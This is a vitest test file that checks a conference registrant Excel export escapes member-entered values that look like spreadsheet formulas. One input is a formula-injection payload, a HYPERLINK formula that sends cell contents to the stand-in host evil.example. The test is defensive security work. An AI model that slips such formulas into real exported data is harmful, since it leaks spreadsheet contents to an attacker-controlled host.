import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readExportedSheet } from '../../test/excel-sheet';
import { createConferenceSession, createMember } from '../../test/factories';
import { logInAs } from '../../test/log-in-as';
import { createTestApp, type TestApp } from '../../test/test-app';

let app: TestApp;

beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app.dispose());

describe('the registrant list download', () => {
  it('keeps what members typed as inert text, even when it reads as a formula, and numbers as numbers', async () => {
    const { cookie: member } = await logInAs(app, await createMember(app.db));
    const { cookie: admin } = await logInAs(app, await createMember(app.db, { level: 10 }));
    const session = await createConferenceSession(app.db, { price: 0, isAddress: 'Y' });
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"확인")';
    const registered = await app.inject({
      method: 'POST',
      url: `/api/register/conference/${session.detailIdx}`,
      headers: { cookie: member },
      payload: {
        zipCode: '06236',
        address: '-2',
        detailedAddress: '@SUM(1)',
        registerConference: { name: hyperlink, church: '+1', phone: '01012345678', email: 'a@example.com' },
        registerMemberList: [{ name: '-3+4', church: '사랑교회' }],
        agree: 'Y',
      },
    });
    expect(registered.statusCode, registered.body).toBe(200);

    const response = await app.inject({
      method: 'GET',
      url: `/api/registered/conference/excel/${session.conferenceIdx}`,
      headers: { cookie: admin },
    });
    expect(response.statusCode).toBe(200);
    const { cell } = await readExportedSheet(response.rawPayload);
    expect(cell('신청자')).toBe(`'${hyperlink}`);
    expect(cell('교회')).toBe("'+1");
    expect(cell('주소')).toBe("'-2");
    expect(cell('상세주소')).toBe("'@SUM(1)");
    expect(cell('참석자')).toBe("'-3+4");
    // Ordinary values are left alone: the phone as text, the amount as a number.
    expect(cell('연락처')).toBe('010-1234-5678');
    expect(cell('신청 금액(합계)')).toBe(0);
    expect(typeof cell('신청번호')).toBe('number');
  });
});
